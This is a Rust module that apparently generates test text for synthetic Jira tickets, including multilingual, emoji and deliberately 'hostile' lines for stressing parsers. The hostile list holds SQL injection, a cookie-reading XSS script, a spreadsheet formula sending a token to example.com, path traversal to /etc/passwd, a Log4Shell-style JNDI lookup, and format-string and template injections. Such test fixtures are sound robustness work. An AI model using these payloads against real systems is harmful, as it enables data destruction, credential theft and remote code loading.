//! Text that is not English, or not what a parser hopes for.
//!
//! The hostile lines are all things that Jira accepts: no NUL, no lone surrogate.

use super::dice::Dice;

/// How the reporter of a ticket writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(crate) enum Voice {
    /// Plain English.
    #[default]
    English,
    /// Chinese, Japanese or Korean.
    EastAsian,
    /// Arabic or Hebrew.
    RightToLeft,
    /// English with many emoji.
    Emoji,
    /// Legal, and hard on parsers.
    Hostile,
}

const EAST_ASIAN: [&str; 12] = [
    "更新後にログインできなくなりました。至急ご確認をお願いいたします。",
    "添付のスクリーンショットのとおり、エラーコード{code}が表示されます。",
    "再起動しても改善しませんでした。{app}のバージョンは{ver}です。",
    "本日中にご回答いただけますと幸いです。どうぞよろしくお願いいたします。",
    "导入文件时系统提示错误,第{n}行之后的数据全部丢失。",
    "我们办公室大约有{n}位同事遇到同样的问题。",
    "请问这个问题什么时候可以解决?客户一直在催。",
    "發票地址有誤,請更正後重新開立。",
    "어제부터 {app}에 접속이 되지 않습니다. 확인 부탁드립니다.",
    "로그 파일을 첨부했습니다. 오류 코드는 {code}입니다.",
    "다시 시도해 보았지만 결과는 같습니다.",
    "髙橋さんの﨑の字が「?」になります。𠮷野家も同じです。",
];

const RIGHT_TO_LEFT: [&str; 10] = [
    "لا أستطيع تسجيل الدخول إلى {app} منذ التحديث إلى {ver}.",
    "تظهر رسالة الخطأ {code} عند فتح المرفقات.",
    "يرجى المساعدة في أقرب وقت ممكن، العمل متوقف لدينا.",
    "جرّبنا متصفحًا آخر ولم يتغيّر شيء.",
    "عدد المستخدمين المتأثرين حوالي {n}.",
    "לא ניתן להתחבר למערכת {app} מאז הבוקר.",
    "מצורף צילום מסך עם הודעת השגיאה {code}.",
    "הבעיה חוזרת כל {n} דקות, גם אחרי הפעלה מחדש.",
    "תודה על העזרה המהירה!",
    "נא לעדכן את כתובת החיוב: רח׳ הרצל 12, תל־אביב.",
];

const EMOJI: [&str; 8] = [
    "Help!! 🆘 {app} is down again 😭😭😭",
    "Works now 🎉🎉 thanks team 👏🏽👩🏿‍💻",
    "Printer says no 🖨️❌ (floor {n}, next to the 🪴)",
    "🇨🇭🇯🇵🇺🇳 all three sites have the same {code} 🤷🏻‍♀️",
    "👨‍👩‍👧‍👦 group mailbox is gone, was there yesterday 📭",
    "Still broken 😬 see 📎",
    "🔥 prod 🔥 {host} 🔥",
    "ok 👍",
];

const HOSTILE: [&str; 16] = [
    "'; DROP TABLE issues; -- and \"quoted\" and 'single' and `back` ticks",
    "path C:\\Users\\maya\\AppData\\Local\\Temp\\new\\table\\x41 was not found",
    "line one\u{2028}line two\u{2029}line three, separators that JavaScript trips over",
    "zero\u{200b}width\u{200d}joiners and a \u{feff}byte order mark",
    "\u{202e}txt.exe\u{202c} reads backwards",
    "Z\u{0351}\u{036b}\u{0343}a\u{0363}\u{0328}l\u{0334}\u{035d}g\u{0321}o\u{0319} text in the subject",
    "<script>alert(document.cookie)</script> <img src=x onerror=alert(1)>",
    "{\"json\": [1, 2, {\"in\": \"text\"}], \"price\": 1e400}",
    "=HYPERLINK(\"https://example.com/?token=abc123\",\"click\") and +1+1 and @SUM(A1)",
    "tab\there, bell-like \u{7f} and next line \u{85} characters",
    "\u{1b}[31mred from a pasted terminal\u{1b}[0m",
    "../../../../etc/passwd and %2e%2e%2f and ..\\..\\boot.ini",
    "${jndi:ldap://example.com/a} {{7*7}} %s %n %(x)s {0}",
    "\u{fffd}\u{fffd} replacement characters, \u{e000} private use, \u{10fffd} the last plane",
    "# not a heading\n- not a list\n| not | a table |",
    "NULL, null, None, NaN, undefined, -0, 1e5, 0x1F, 2026-02-30, true",
];

impl Voice {
    /// The share of each voice over many tickets.
    pub(crate) fn of(dice: &mut Dice) -> Self {
        match dice.below(1000) {
            0..820 => Self::English,
            820..900 => Self::EastAsian,
            900..940 => Self::RightToLeft,
            940..980 => Self::Emoji,
            _ => Self::Hostile,
        }
    }

    /// A line in this voice, with its places still open; `None` for English.
    pub(crate) fn line(self, dice: &mut Dice) -> Option<&'static str> {
        match self {
            Self::English => None,
            Self::EastAsian => Some(dice.pick(&EAST_ASIAN)),
            Self::RightToLeft => Some(dice.pick(&RIGHT_TO_LEFT)),
            Self::Emoji => Some(dice.pick(&EMOJI)),
            Self::Hostile => Some(dice.pick(&HOSTILE)),
        }
    }
}

/// A word without a break, 200 to 3,000 characters long.
pub(crate) fn endless_word(dice: &mut Dice) -> String {
    let parts = dice.between(12, 190);
    (0..parts).map(|_| format!("{:016x}", dice.next())).collect()
}
